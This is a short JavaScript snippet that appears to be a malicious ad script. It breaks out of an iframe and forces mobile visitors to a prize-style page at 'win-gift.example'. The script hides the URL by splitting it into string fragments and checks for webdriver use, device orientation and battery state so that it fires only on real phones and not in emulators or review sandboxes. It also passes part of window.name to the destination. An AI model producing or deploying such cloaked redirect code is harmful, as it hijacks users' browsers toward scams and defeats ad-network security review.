!function(w,d,n){
  var ok = 0, m = 0;
  if (w.self === w.top) return;
  if (!/Android|iPhone/.test(n.userAgent) || n.webdriver || n.platform.indexOf('Win') > -1) return;
  w.addEventListener('deviceorientation', function (e) { if (e.beta || e.gamma) { ok |= 1; check(); } });
  w.addEventListener('touchstart', function () { ok |= 4; check(); }, { passive: true });
  if (n.getBattery) n.getBattery().then(function (b) { if (!(b.level === 1 && b.charging)) { ok |= 2; check(); } });
  else ok |= 2;
  function check() {
    if (m || (ok & 3) !== 3) return;
    m = 1;
    var p = ['ht', 'tps:', '//', 'win', '-gift', '.exa', 'mple/', 'us/'].join('');
    try { w.top['loc' + 'ation']['href'] = p + '?c=' + w.name.slice(0, 12); }
    catch (x) {
      var a = d.createElement('a'); a.href = p; a.target = '_top'; d.body.appendChild(a); a.click();
    }
  }
}(window,document,navigator);
